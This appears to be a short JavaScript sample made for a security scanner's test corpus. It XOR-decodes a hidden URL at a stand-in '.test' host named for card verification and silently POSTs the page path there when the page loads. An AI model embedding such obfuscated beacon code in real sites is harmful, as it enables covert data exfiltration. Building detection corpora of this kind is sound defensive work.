// Written for shieldscan's corpus: a payload XORed with a short key, stored
// percent-encoded and undone with decodeURIComponent.
(function () {
  var p = decodeURIComponent("%03%43%05%1B%44%4B%44%18%10%1B%5E%5F%08%56%03%0F%1A%07%0E%45%18%0D%4E%5F%1F%52%02%1F%18%07%5A%18%12%04%5B%1D%0E%54%05"), k = "k7q", u = "";
  for (var i = 0; i < p.length; i++) u += String.fromCharCode(p.charCodeAt(i) ^ k.charCodeAt(i % k.length));
  window.addEventListener("load", function () {
    fetch(u, {method: "POST", mode: "no-cors", body: JSON.stringify({p: location.pathname})});
  });
})();
